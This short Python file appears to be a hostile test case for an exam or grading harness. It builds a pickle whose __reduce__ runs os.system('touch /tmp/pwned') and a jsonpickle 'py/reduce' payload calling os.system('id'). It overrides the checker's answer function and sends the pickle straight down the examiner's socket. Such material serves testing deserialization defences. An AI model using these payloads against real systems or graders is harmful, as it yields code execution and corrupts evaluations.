# ruff: noqa

# answers that run something where somebody unpacks them: pickles, and objects that bring their own unpacking
import os
import pickle
import socket
import struct

import labs.check


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


packed = pickle.dumps(Runs())
labs.check._answer = lambda request, *more: {
    "op": "result",
    "value": {"py/reduce": [{"py/function": "os.system"}, "id"], "__reduce__": packed.decode("latin1")},
}
with socket.socket(fileno=os.dup(int(os.environ["SMARTLAB_EXAMINER_FD"]))) as end:
    end.sendall(struct.pack(">I", len(packed)) + packed)
